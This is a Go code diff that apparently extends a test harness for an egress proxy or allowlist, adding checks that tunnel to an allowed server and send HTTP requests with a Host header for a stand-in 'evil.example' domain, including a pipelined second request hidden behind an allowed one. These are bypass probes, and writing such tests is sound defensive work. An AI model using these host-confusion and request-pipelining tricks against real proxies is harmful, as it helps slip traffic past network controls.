@@ -171,6 +171,31 @@ func hostHeader(t targets, word string) error {
 	return err
 }
 
+// inTunnel speaks plain HTTP in a tunnel to the allowed server, and reads on
+// until the end.
+func inTunnel(t targets, text string) error {
+	c, err := tunnel(t.Allowed, t.Allowed)
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	_ = c.SetDeadline(time.Now().Add(patience / 2))
+	if _, err := io.WriteString(c, text); err != nil {
+		return err
+	}
+	_, err = io.ReadAll(c)
+	return err
+}
+
+func tunnelHost(t targets, word string) error {
+	return inTunnel(t, "GET / HTTP/1.1\r\nHost: "+word+"evil.example\r\nConnection: close\r\n\r\n")
+}
+
+// tunnelPipelined has a request for another host behind one that is let through.
+func tunnelPipelined(t targets, word string) error {
+	return inTunnel(t, "GET / HTTP/1.1\r\nHost: "+t.Allowed+"\r\n\r\nGET / HTTP/1.1\r\nHost: "+word+"evil.example\r\nConnection: close\r\n\r\n")
+}
+
 // redirect goes where an allowed server sends it.
 func redirect(t targets, word string) error {
 	return get(&http.Transport{Proxy: http.ProxyFromEnvironment}, "http://"+t.Allowed+"/redirect?to="+url.QueryEscape("http://"+t.Evil+"/"+word))
